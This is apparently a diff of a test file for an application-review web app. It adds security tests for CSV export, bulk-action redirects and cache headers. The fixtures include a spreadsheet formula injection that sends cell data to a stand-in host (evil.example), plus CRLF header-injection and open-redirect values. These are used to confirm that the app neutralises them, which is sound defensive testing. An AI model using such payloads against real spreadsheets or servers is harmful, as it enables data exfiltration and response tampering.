@@ -108,7 +108,9 @@ describe('a country coordinator', () => {
     expect(note.status).toBe(404);
     const api = await t.request('/api/rounds/round-a/applications/ng-1');
     expect(api.status).toBe(404);
-    expect(await api.json()).toEqual({ error: { code: 'NOT_FOUND', message: expect.any(String) } });
+    expect(await api.json()).toEqual({
+      error: { code: 'NOT_FOUND', reason: 'application.notInRound', message: expect.any(String) },
+    });
     const status = await t.database.db
       .selectFrom('applications')
       .select('status')
@@ -259,6 +261,70 @@ describe('a program coordinator', () => {
     expect(lines[1]).toContain('Information technology; Open access');
   });
 
+  test('a formula typed into the form is exported as text, and the list and import pages say so', async () => {
+    await seedApplication(t.database.db, {
+      roundId: 'round-a',
+      id: 'br-formula',
+      name: '=HYPERLINK("http://evil.example/?x="&B2,"Click me")',
+      email: 'formula@example.org',
+      country: 'BR',
+      answers: { role: '@SUM(1+1)', hopes: '-2+3' },
+    });
+    try {
+      const response = await t.request('/coordinator/rounds/round-a/applications/export.csv?country=BR');
+      const text = await response.text();
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&B2,""Click me"")"`);
+      expect(text).toContain("'@SUM(1+1)");
+      expect(text).toContain("'-2+3");
+      expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
+      const note = 'are written with an apostrophe in front';
+      expect(await (await t.request('/coordinator/rounds/round-a/applications')).text()).toContain(note);
+      expect(await (await t.request('/coordinator/rounds/round-a/imports/new')).text()).toContain(
+        'removes that apostrophe',
+      );
+    } finally {
+      await t.database.db.deleteFrom('applications').where('id', '=', 'br-formula').execute();
+    }
+  });
+
+  test('the bulk form’s way back is rebuilt from known filters: a line break or a foreign value cannot reach the redirect', async () => {
+    const response = await t.postForm('/coordinator/rounds/round-a/applications/bulk', {
+      ids: ['br-1'],
+      action: 'accept',
+      back: '?country=BR&q=a\r\nSet-Cookie: x=1&next=//evil.example&status=nonsense',
+    });
+    expect(response.status).toBe(303);
+    expect(response.headers.get('location')).toBe(
+      '/coordinator/rounds/round-a/applications?q=a%0D%0ASet-Cookie%3A+x%3D1&country=BR',
+    );
+    for (const back of ['//evil.example', 'https://evil.example', '?\u0000', '\n']) {
+      const other = await t.postForm('/coordinator/rounds/round-a/applications/bulk', {
+        ids: ['br-1'],
+        action: 'accept',
+        back,
+      });
+      expect(other.status).toBe(303);
+      expect(other.headers.get('location')).toBe('/coordinator/rounds/round-a/applications');
+    }
+  });
+
+  test('coordinator pages, the CSV and the JSON API are never stored by caches', async () => {
+    for (const path of [
+      '/coordinator',
+      '/coordinator/rounds',
+      '/coordinator/rounds/round-a/applications',
+      '/coordinator/rounds/round-a/applications/br-1',
+      '/coordinator/rounds/round-a/applications/counts',
+      '/coordinator/rounds/round-a/applications/export.csv',
+      '/coordinator/rounds/round-a/imports/new',
+      '/api/rounds/round-a/applications',
+    ]) {
+      const response = await t.request(path);
+      expect(response.status, path).toBe(200);
+      expect(response.headers.get('cache-control'), path).toMatch(/\bno-store\b/);
+    }
+  });
+
   test('declines with a required reason and sees the reason and a note on the detail page', async () => {
     const missing = await t.postForm('/coordinator/rounds/round-a/applications/ng-1/review', {
       action: 'decline',
@@ -320,7 +386,9 @@ describe('a program coordinator', () => {
     const illegal = await t.postForm(`/coordinator/rounds/${round.id}/status`, { to: 'finished' });
     expect(illegal.status).toBe(303);
     const refusal = await (await t.request(location)).text();
-    expect(refusal).toContain('cannot move to “Finished”: a draft round can only become open');
+    expect(refusal).toContain(
+      'cannot move to “Finished”: a round that is “Draft” can only become “Open for applications”',
+    );
 
     const opened = await t.postForm(`/coordinator/rounds/${round.id}/status`, { to: 'open' });
     expect(opened.status).toBe(303);
